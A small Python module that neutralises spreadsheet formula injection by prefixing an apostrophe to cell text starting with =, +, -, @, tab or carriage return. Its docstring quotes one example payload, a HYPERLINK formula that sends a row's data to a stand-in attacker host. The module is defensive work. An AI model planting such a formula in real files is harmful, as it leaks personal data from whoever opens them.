"""Text for a spreadsheet cell that stays text.

Excel, LibreOffice and Google Sheets read a cell starting with =, +, - or @ as a formula, and one
starting with a tab or a carriage return too (they skip the blank and read the rest), so a
resident's name typed as `=HYPERLINK("https://evil.example/?"&A2, "kliknij")` would become a link
that sends the row elsewhere when a technician opens the file. A leading apostrophe makes it text
and is not shown (OWASP, "CSV Injection").
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value: str) -> str:
    """`value` as a spreadsheet will show it and never run it."""
    return f"'{value}" if value.startswith(FORMULA_STARTS) else value
